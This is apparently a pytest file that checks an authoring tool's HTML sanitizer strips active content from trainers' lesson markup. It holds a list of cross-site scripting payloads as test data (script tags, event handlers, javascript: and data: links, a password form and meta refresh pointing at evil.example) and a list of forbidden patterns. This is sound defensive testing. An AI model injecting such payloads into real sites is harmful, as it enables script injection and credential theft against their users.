"""Trainers' raw HTML cannot smuggle script into a lesson."""

import pytest

from authoring.sanitize import sanitize_html

from .conftest import lesson_text

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src="media/a.svg" alt="Ein Bild mit Text" onerror="alert(1)">',
    '<a href="javascript:alert(1)">Ziel</a>',
    '<a href="JaVaScRiPt:alert(1)">Ziel</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<iframe src="https://example.org"></iframe>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="Eingebettetes Bild">',
    '<svg onload="alert(1)"></svg>',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<object data="x.swf"></object>',
    "<style>body{display:none}</style>",
    '<a href="data:text/html,<script>alert(1)</script>">Ziel</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]
FORBIDDEN = ("<script", "onerror", "onload", "javascript:", "style=", "expression(", "<iframe",
             "data:", "<svg", "<form", "<object", "<style", "<meta", "alert(1)")


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitize_html_removes_active_content(attack):
    cleaned = sanitize_html(attack).lower()
    for needle in FORBIDDEN:
        assert needle not in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_raw_html_in_a_lesson_is_sanitized(render, attack):
    body = f"# Titel\n\n{attack}\n\nText {attack} im Absatz.\n\n## Quellen\n\n- X.\n"
    html = render(lesson_text(body)).content.html.lower()
    for needle in FORBIDDEN:
        assert needle not in html


def test_markdown_javascript_link_is_neutralised_and_reported(render):
    result = render(lesson_text("# Titel\n\n[Ziel](javascript:alert(1))\n"))
    assert "javascript" not in result.content.html
    assert any(d["code"] == "link-scheme" for d in result.diagnostics)


def test_safe_markup_survives():
    html = ('<p><a href="https://example.org" title="t">Ziel</a> <em>x</em></p>'
            '<video controls="controls" src="media/v.mp4"><track kind="captions" '
            'src="media/v.vtt" srclang="de"></video>')
    cleaned = sanitize_html(html)
    assert 'href="https://example.org"' in cleaned
    assert '<track kind="captions" src="media/v.vtt" srclang="de">' in cleaned
